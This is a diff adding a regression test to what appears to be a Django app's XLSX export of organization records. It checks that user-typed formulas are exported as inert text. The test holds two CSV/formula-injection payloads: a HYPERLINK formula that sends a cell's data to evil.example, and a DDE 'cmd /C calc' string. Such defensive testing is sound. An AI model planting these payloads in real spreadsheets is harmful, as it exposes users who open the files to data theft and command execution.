@@ -122,3 +122,18 @@ def test_export_filename_has_the_prefix_and_the_local_date():
     name = export_filename("社会组织")
     assert name.startswith("社会组织_") and name.endswith(".xlsx")
     datetime.datetime.strptime(name[len("社会组织_"):-len(".xlsx")], "%Y%m%d")
+
+
+def test_a_formula_typed_into_an_organization_is_exported_as_text(tree_a, users, in_tenant):
+    """Issue 7 item 3: ``=HYPERLINK(...)`` typed by an organization user was written as a live formula."""
+    formula = '=HYPERLINK("http://evil.example/?q="&B2,"查看详情")'
+    job = run_import(tree_a["tenant"], users["admin_a"], [org_row(0, **{"地址": "衡阳市"})], in_tenant=in_tenant)
+    assert job.status == ImportStatus.SUCCEEDED, job.errors
+    with in_tenant(tree_a["tenant"]):
+        Organization.objects.update(address=formula, contact_person="@SUM(1+1)*cmd|' /C calc'!A0")  # the portal's fields
+        data = organizations_to_xlsx(Organization.objects.all())
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    columns = {cell.value: cell.column for cell in sheet[1]}
+    address, person = sheet.cell(2, columns["地址"]), sheet.cell(2, columns["联系人"])
+    assert (address.value, address.data_type) == (formula, "s")
+    assert (person.value, person.data_type) == ("@SUM(1+1)*cmd|' /C calc'!A0", "s")
